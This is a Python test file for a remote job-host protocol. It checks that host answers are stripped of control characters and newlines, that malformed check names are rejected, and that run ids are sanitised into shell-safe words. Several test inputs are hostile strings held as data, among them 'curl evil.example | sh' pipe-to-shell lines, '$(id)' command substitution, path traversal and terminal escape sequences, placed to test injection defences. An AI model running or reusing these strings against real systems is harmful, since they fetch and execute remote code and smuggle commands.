"""Texts of a host: what is decoded has one line, no control characters, and names of the known form."""

from __future__ import annotations

import io
import shlex
from typing import Any

import pytest
from rich.console import Console

from pipeline.show.live_view import LiveView
from remote.host import read_answer
from remote.protocol.findings import UNNAMED, Finding
from remote.protocol.jobs import JobNews, JobSpec, JobState, RunSurvey, StartAnswer, WatchNote
from remote.protocol.machine import GpuProcess
from remote.protocol.proof import NotChecked
from remote.protocol.text import one_line
from remote.protocol.values import decode
from tests.lab.fake_host import FakeHost

RUN = {"run": "plain-1", "config": "plain", "fingerprint": "", "job": 1, "state": "running"}
FORGED = "in the queue\nerror   halfstep is too old  [halfstep]\n        next: curl evil.example | sh"


def answer_of(kind: type[Any], data: dict[str, Any]) -> Any:
    return read_answer(kind, FakeHost(), data)


@pytest.mark.parametrize("text", [FORGED, "\x1b]52;c;QUFB\x07", "x\u202ey", "a\r\nb", "\x9b2J"])
def test_SE_21_a_text_of_an_answer_is_one_line_without_control_characters(text: str) -> None:
    news = answer_of(JobNews, {"number": 1, "state": "running", "waits": text, "slurm_end": text})
    note = answer_of(WatchNote, {"check": "loss-rising", "severity": "warning", "message": text, "step": 1})
    survey = answer_of(RunSurvey, {**RUN, "warnings": [text], "checkpoints": [{"name": text, "step": 1}]})
    shown = (news.waits, news.slurm_end, note.message, *survey.warnings, survey.checkpoints[0].name)
    assert all(one == one_line(text) and one.isprintable() for one in shown)


@pytest.mark.parametrize(
    "check", [FORGED, "\x1b[31m", "a]  [b", "Loss", "", "x" * 65, "x\n", "\u202ex", "check; curl evil.example"]
)
@pytest.mark.parametrize("rule", [None, one_line])
def test_SE_21_a_check_with_a_name_of_another_form_has_no_name(check: str, rule: Any) -> None:
    note = {"check": check, "severity": "warning", "message": "slow", "step": 1}
    finding = {"check": check, "severity": "warning", "message": "slow"}
    assert decode(WatchNote, note, text_rule=rule).check == UNNAMED
    assert decode(Finding, finding, text_rule=rule).check == UNNAMED
    assert decode(NotChecked, {"check": check, "reason": "none"}, text_rule=rule).check == UNNAMED


def test_the_message_of_a_finding_keeps_its_lines_and_a_job_its_command() -> None:
    finding = {"check": "command-failed", "severity": "error", "message": "one\ntwo\x1b[2J"}
    assert answer_of(Finding, finding).message == "one\ntwo\\x1b[2J"
    spec = {
        "run": "plain-1",
        "number": 1,
        "fingerprint": "",
        "argv": ["bash", "-c", "a\nb"],
        "environment": {"A": "\t"},
    }
    decoded = answer_of(JobSpec, spec)
    assert decoded.argv[2] == "a\nb" and decoded.environment == {"A": "\t"}


@pytest.mark.parametrize(
    ("name", "valid"),
    [
        ("plain-5d1e0f2a; curl -s https://evil.example | sh", "plain-5d1e0f2a__curl_-s_https___evil.example___sh"),
        ("$(id)", "__id_"),
        ("../../x", "_.._x"),
        ("-rf", "rf"),
        ("", "_"),
        ("plain-5d1e0f2a-2", "plain-5d1e0f2a-2"),
    ],
)
def test_SE_09_the_id_of_a_run_of_the_host_is_one_word_of_a_command(name: str, valid: str) -> None:
    assert answer_of(RunSurvey, {**RUN, "run": name}).run == valid
    assert answer_of(StartAnswer, {"run": name, "number": 1, "state": "running", "fresh": True}).run == valid
    assert shlex.quote(valid) == valid


@pytest.mark.parametrize("field", ["waits", "stage", "message"])
def test_SE_21_a_text_in_the_live_view_stays_on_its_line(field: str) -> None:
    console = Console(file=io.StringIO(), width=200, force_terminal=False)
    view = LiveView(console, keeps_stdout=True)
    view.start(FORGED if field == "stage" else "train")
    if field == "waits":
        view.training(JobNews(1, JobState.RUNNING, waits=FORGED))
    elif field == "message":
        view.message(FORGED, None)
    console.print(view.render())
    view.stop()
    lines = [line.strip() for line in console.file.getvalue().splitlines()]  # type: ignore[attr-defined]
    assert not any(line.startswith(("error", "next:")) for line in lines)


@pytest.mark.parametrize(
    ("ours", "run"), [("", ""), ("plain-1", "plain-1"), ("x; curl evil.example", "x__curl_evil.example")]
)
def test_a_process_of_nobody_stays_nobody_s(ours: str, run: str) -> None:
    process = answer_of(GpuProcess, {"pid": 1, "name": "game", "used_bytes": 1, "ours": ours})
    assert process.ours == run
